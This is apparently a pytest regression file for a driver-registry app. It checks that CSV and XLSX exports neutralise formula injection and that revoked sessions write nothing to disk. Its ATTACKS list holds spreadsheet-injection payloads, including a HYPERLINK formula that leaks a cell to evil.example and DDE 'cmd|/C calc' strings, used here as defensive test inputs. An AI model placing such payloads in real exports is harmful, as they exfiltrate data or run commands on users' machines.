"""Issue 25 items 4 and 6, on SQLite AND PostgreSQL.

4. A driver named `=HYPERLINK("http://evil.example/?leak="&B2,"Clique")` reached the XLSX as a live `<f>` formula and
   the CSV unescaped (`+cmd|' /C calc'!A0`, `@SUM…`, `-2+3…` too). Every text cell that begins with `= + - @`, tab or
   CR is now text — XLSX: a string cell; CSV: `'` before it — in the one exports writer, which the trips', courses'
   and reconciliation screens' exports go through as well.
6. A revoked session (deactivated, locked, demoted) still wrote a 300-driver CSV to disk while the export said
   "nada foi gravado". The session is checked before anything is written; the rows go to a temporary file in the
   target folder, renamed only after the audit entry is committed. The course convocation export is audited.
"""
from __future__ import annotations

import io
import json
import stat
import sys
import zipfile
from datetime import date, time, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select, update

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "db"))

from dashboard_factories import authorization, driver  # noqa: E402

from desktop.domain.roles import Role  # noqa: E402
from desktop.models import AuditEntry, User, UserRole, now  # noqa: E402
from desktop.services import exports  # noqa: E402
from desktop.services.actors import SessionRevoked  # noqa: E402

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&B2,"Clique")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _drivers(db, names):
    with db.session() as s:
        for name in names:
            authorization(s, driver_row=driver(s, name))


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode("utf-8")


def _exports(db) -> list[dict]:
    with db.session(write=False) as s:
        return [json.loads(e.after) for e in s.scalars(select(AuditEntry).where(AuditEntry.action == "export")
                                                       .order_by(AuditEntry.id))]


@pytest.fixture
def clerk(make_actor):
    return make_actor(Role.ATENDENTE, Role.GESTOR, username="servidora-export")


def test_issue25_item4_xlsx_export_writes_no_formula(db, clerk, tmp_path):
    _drivers(db, ["Ana Formula"])
    with db.session() as s:   # names as an attacker typed them (the register keeps what a desk wrote)
        from desktop.models import Driver

        rows = s.scalars(select(Driver).order_by(Driver.id)).all()
        rows[0].name = ATTACKS[0]
    for kind in ("drivers", "authorizations"):
        out = tmp_path / f"{kind}.xlsx"
        exports.export(db, clerk, kind, out)
        xml = _sheet_xml(out)
        assert "<f>" not in xml and "<f " not in xml, kind
        assert "HYPERLINK(&quot;http://evil.example" in xml or 'HYPERLINK("http://evil.example' in xml
        from openpyxl import load_workbook

        cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value == ATTACKS[0]]
        assert cells and all(c.data_type == "s" for c in cells), kind


@pytest.mark.parametrize("attack", ATTACKS)
def test_issue25_item4_csv_export_prefixes_every_formula_with_a_quote(db, clerk, tmp_path, attack):
    from desktop.services import platforms
    from desktop.services.platforms import PlatformDraft

    platforms.create_platform(db, clerk, PlatformDraft(
        cnpj="11.222.333/0001-81", legal_name="Mobilidade Ltda", trade_name="Plataforma Honesta",
        municipal_registration_number="IM-1", municipal_registration_date=date(2026, 1, 5),
        contact_name=attack))
    out = tmp_path / "plataformas.csv"
    exports.export(db, clerk, "platforms", out)
    text = out.read_text(encoding="utf-8-sig")
    import csv

    cells = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    assert "'" + attack.strip() in cells      # the form trims a leading tab or CR; the rest is kept, as text


def test_issue25_item4_numbers_and_dates_are_never_prefixed(tmp_path):
    from decimal import Decimal

    out = tmp_path / "n.csv"
    exports.write_csv(out, ["Valor", "Data", "Texto"], [[Decimal("-2.50"), date(2026, 11, 18), "-2+3"], [-5, None, "ok"]])
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1:] == ["-2,50;18/11/2026;'-2+3", "-5;;ok"]


def test_issue25_item4_statistics_and_fares_exports_go_through_the_writer(db, make_actor, tmp_path):
    from trip_factories import make_platform, trip, trips_csv

    from desktop.services import trips

    fiscal = make_actor(Role.FISCAL, Role.GESTOR, username="fiscal-export")
    p = make_platform(db, fiscal, name='=HYPERLINK("http://evil.example/","x")')
    trips.import_trips(db, fiscal, p.id, trips_csv(*[trip(f"T{i}", "ABC1D23", "52998224725") for i in range(12)]),
                       "t.csv")
    out = tmp_path / "estatisticas.csv"
    assert trips.export_statistics(db, fiscal, out, 2026, 11) == 1
    text = out.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and not text.startswith("\ufeff")
    assert text.splitlines()[0] == ",".join(trips.STATISTICS_HEADERS)
    xlsx = tmp_path / "tarifas.xlsx"
    assert trips.export_fares(db, fiscal, "2026-11", xlsx) == 1
    assert "<f>" not in _sheet_xml(xlsx)
    assert stat.S_IMODE(xlsx.stat().st_mode) == 0o600 and not list(tmp_path.glob("*.parcial"))


def test_issue25_item4_course_convocation_escapes_and_item6_is_audited(db, make_actor, tmp_path):
    from desktop.services import courses
    from desktop.services.courses import SessionDraft

    clerk = make_actor(Role.ATENDENTE, username="atendente-curso")
    with db.session() as s:
        authorization(s, activated_on=date(2026, 6, 1))
    info = courses.create_session(db, clerk, SessionDraft(date(2026, 11, 25), time(14), "=1+1 Auditório",
                                                          "@Direção defensiva", 3, "Equipe", time(17)))
    courses.convoke(db, clerk, info.id, "all")
    out = tmp_path / "convocados.csv"
    assert courses.export_convocation_list(db, clerk, info.id, out) == 1
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == ";".join(courses.CONVOCATION_HEADERS)
    assert ";'=1+1 Auditório;'@Direção defensiva;" in lines[1]
    entry = _exports(db)[-1]
    assert entry["rows"] == 1 and entry["file"] == "convocados.csv" and entry["personal_data"] is True


# -- item 6 -------------------------------------------------------------------------------------------------------
def _revoke(db, user_id, how):
    with db.session() as s:
        if how == "deactivated":
            s.execute(update(User).where(User.id == user_id).values(active=False))
        elif how == "locked":
            s.execute(update(User).where(User.id == user_id).values(locked_until=now() + timedelta(minutes=15)))
        else:
            s.execute(UserRole.__table__.delete().where(UserRole.user_id == user_id))
            s.add(UserRole(user_id=user_id, role=Role.VISTORIADOR.value))


@pytest.mark.parametrize("how", ["deactivated", "locked", "demoted"])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_issue25_item6_a_revoked_session_writes_nothing_to_disk(db, clerk, tmp_path, how, suffix):
    tmp_path = tmp_path / "saida"
    tmp_path.mkdir()
    _drivers(db, [f"Condutor {i}" for i in range(30)])
    exports.export(db, clerk, "drivers", tmp_path / f"antes{suffix}")          # allowed while valid
    before = len(_exports(db))
    _revoke(db, clerk.user_id, how)
    out = tmp_path / f"condutores{suffix}"
    with pytest.raises(SessionRevoked) as exc:
        exports.export(db, clerk, "drivers", out)
    assert "nada foi gravado" in str(exc.value)
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == [f"antes{suffix}"]
    assert len(_exports(db)) == before


def test_issue25_item6_the_file_appears_only_after_the_audit_commit(db, clerk, tmp_path, monkeypatch):
    """A failure while the audit entry is written (the user revoked between the check and the commit, the
    database gone) leaves no file: the rename comes after the commit."""
    from desktop.services import audit

    tmp_path = tmp_path / "saida"
    tmp_path.mkdir()
    _drivers(db, ["Condutor Único"])
    real = audit.record

    def failing(session, actor, action, *args, **kw):
        if action == "export":
            raise SessionRevoked("Seu usuário foi desativado. A sessão foi encerrada: nada foi gravado.")
        return real(session, actor, action, *args, **kw)

    monkeypatch.setattr(audit, "record", failing)
    with pytest.raises(SessionRevoked):
        exports.export(db, clerk, "drivers", tmp_path / "condutores.csv")
    assert list(tmp_path.iterdir()) == []
    monkeypatch.setattr(audit, "record", real)
    result = exports.export(db, clerk, "drivers", tmp_path / "condutores.csv")
    assert result.rows == 1 and [p.name for p in tmp_path.iterdir()] == ["condutores.csv"]
    assert stat.S_IMODE(result.path.stat().st_mode) == 0o600
